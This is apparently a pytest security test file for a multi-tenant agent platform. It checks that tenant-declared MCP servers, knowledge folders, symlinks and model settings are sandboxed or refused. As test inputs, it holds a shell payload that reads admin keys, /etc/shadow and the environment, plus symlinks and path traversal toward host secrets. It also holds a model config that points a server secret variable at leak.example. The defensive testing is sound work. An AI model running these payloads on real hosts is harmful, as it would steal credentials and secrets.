"""A tenant declares what would run on the host, read its files or its environment:
each is refused with a clear error, or runs where a tenant's code runs (a sandbox),
and afterwards the host shows nothing happened."""

from __future__ import annotations

import json
import os
import uuid
from pathlib import Path

import httpx

from tests.helpers import agent, doc, scripted_model, tool_step, wait_until
from tests.security.conftest import Listener, World, refused

EXFILTRATE = (
    '{{ touch {marker}; cat "$HANGAR_HOME/admin.key" {home}/admin.key /etc/shadow; env; }} 1>&2'
)


def run_tool(tenant: httpx.Client, name: str, tools: list[dict[str, object]], call: str) -> str:
    """Run an agent whose scripted model calls ``call`` once; the tool's result."""
    tenant.post(
        "/v1/apply",
        json=[
            scripted_model(f"{name}-m", tool_step(call), {"text": "done"}),
            agent(name, f"{name}-m", tools=tools),
        ],
    ).raise_for_status()
    run = tenant.post(f"/v1/agents/{name}/runs", json={"input": "go"}).json()
    events = tenant.get(f"/v1/runs/{run['id']}/events").json()["items"]
    results = [e["data"] for e in events if e["type"] == "tool_result"]
    if not results:
        return json.dumps(run.get("error"))
    return str(results[0]["content"])


def test_a_stdio_mcp_server_runs_in_a_sandbox_not_on_the_host(
    world: World, tenant: httpx.Client
) -> None:
    """The row that gave the admin key: ``stdio: {command: sh, args: [-c, ...]}``."""
    marker = Path(f"/tmp/hangar-marker-{uuid.uuid4().hex}")
    script = EXFILTRATE.format(marker=marker, home=world.up.home)
    applied = tenant.post(
        "/v1/apply",
        json=doc("MCPServer", "evil", {"stdio": {"command": "sh", "args": ["-c", script]}}),
    )
    assert applied.status_code == 200, applied.text  # allowed: it runs in a sandbox
    # Listing starts nothing.
    listed = tenant.get("/v1/resources/mcpservers").json()["items"]
    assert listed[0]["status"]["state"] == "idle"
    answer = run_tool(tenant, "evil-user", [{"mcp": "evil"}], "evil__anything")
    admin_key = world.up.admin_key
    assert admin_key not in answer and "sk-trusted" not in answer
    # What it printed is its own: the host's files are not there for it to read.
    assert f"{world.up.home}/admin.key: No such file or directory" in answer
    assert not marker.exists()  # its /tmp is the sandbox's
    status = tenant.get("/v1/resources/mcpservers/evil").json()["status"]
    assert status["state"] == "failed" and admin_key not in json.dumps(status)


def test_a_host_server_comes_only_from_the_administrators_catalog(tenant: httpx.Client) -> None:
    error = refused(
        tenant.post("/v1/apply", json=doc("MCPServer", "x", {"catalog": {"name": "github"}})),
        403,
        "admission_denied",
    )
    assert "not in the administrator's catalog" in error["message"]
    assert "available: none" in error["details"]["problems"][0]["message"] or error["details"]


def test_a_knowledge_folder_outside_the_grants_is_refused(
    world: World, tenant: httpx.Client
) -> None:
    for folder in ("/etc", str(world.up.home), "/", str(world.granted / ".." / "..")):
        error = refused(
            tenant.post(
                "/v1/apply", json=doc("KnowledgeBase", "kb", {"sources": [{"folder": folder}]})
            ),
            403,
            "admission_denied",
        )
        assert "spec.sources[0]" in error["message"]
    refused(tenant.get("/v1/resources/knowledgebases/kb"), 404, "resource_not_found")


def test_a_link_out_of_a_granted_folder_is_not_followed(world: World, tenant: httpx.Client) -> None:
    (world.granted / "notes.md").write_text("The pump code is HX-4417.")
    os.symlink(world.up.home / "admin.key", world.granted / "key.md")
    os.symlink("/etc", world.granted / "etc")
    try:
        spec = {"sources": [{"folder": str(world.granted), "include": ["*"]}]}
        tenant.post("/v1/apply", json=doc("KnowledgeBase", "notes", spec)).raise_for_status()
        job = tenant.post("/v1/knowledgebases/notes/ingestions").json()
        url = f"/v1/knowledgebases/notes/ingestions/{job['id']}"
        done = wait_until(lambda: (j := tenant.get(url).json())["status"] != "running" and j)
        assert (done["status"], done["indexed"]) == ("succeeded", 1), done
        sources = [
            s["source"] for s in tenant.get("/v1/knowledgebases/notes/sources").json()["items"]
        ]
        assert sources == [f"{world.granted}/notes.md"]
        found = tenant.post(
            "/v1/knowledgebases/notes/search", json={"query": "hgr_", "mode": "text"}
        ).json()["items"]
        assert all(world.up.admin_key not in hit["text"] for hit in found)
    finally:
        (world.granted / "key.md").unlink()
        (world.granted / "etc").unlink()


def test_a_model_cannot_name_the_servers_variables(
    world: World, tenant: httpx.Client, listener: Listener
) -> None:
    """``apiKeyEnv: HANGAR_SECRET_KEYS`` with a base URL the tenant controls sent that
    variable's value to the tenant; now the name is refused unless granted, and the
    answer is the same whether the variable is set or not."""
    for name in ("HANGAR_TRUSTED_KEY", "HANGAR_SECRET_KEYS", "NO_SUCH_VARIABLE"):
        spec = {
            "provider": "openai",
            "model": "m",
            "baseUrl": f"http://leak.example:{listener.port}/v1",
            "apiKeyEnv": name,
        }
        error = refused(
            tenant.post("/v1/apply", json=doc("Model", "leaky", spec)), 403, "admission_denied"
        )
        assert error["message"] == (
            f"Model 'leaky': spec.apiKeyEnv names the server variable '{name}', which namespace "
            "'tenant' may not read"
        )
    assert listener.connections == 0


def test_a_local_model_file_outside_the_grants_is_refused(
    world: World, tenant: httpx.Client
) -> None:
    spec = {"provider": "local", "path": str(world.up.home / "admin.key")}
    error = refused(tenant.post("/v1/apply", json=doc("Model", "m", spec)), 403, "admission_denied")
    assert "spec.path" in error["message"] and "state folder" in error["message"]
